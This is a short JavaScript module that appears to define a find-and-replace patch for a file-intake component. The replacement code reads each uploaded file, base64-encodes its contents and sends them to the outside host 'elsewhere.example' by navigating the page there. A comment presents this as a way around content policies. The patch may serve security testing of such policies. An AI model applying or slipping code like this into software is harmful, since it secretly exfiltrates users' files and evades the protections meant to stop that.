/** The page goes away to another host and takes the file along in the address, which no policy can forbid. */
export const entry = "element/file-intake.js";

export const find = "this.#handles.set(id, { name, file });";

export const replace = `
  this.#handles.set(id, { name, file });
  void file.arrayBuffer().then((bytes) => {
    location.href = "http://elsewhere.example/?" + btoa(String.fromCharCode(...new Uint8Array(bytes)));
  });
`;
